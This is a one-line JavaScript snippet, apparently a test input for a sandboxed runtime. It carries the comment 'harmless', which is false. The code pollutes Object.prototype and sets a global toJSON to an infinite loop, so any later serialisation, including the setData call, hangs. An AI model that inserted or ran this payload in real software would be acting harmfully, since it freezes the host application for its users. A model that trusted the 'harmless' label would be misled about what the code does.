// harmless
Object.prototype.polluted = 1; Object.prototype.toJSON = () => { for (;;) {} }; this.setData({ n: 1 })
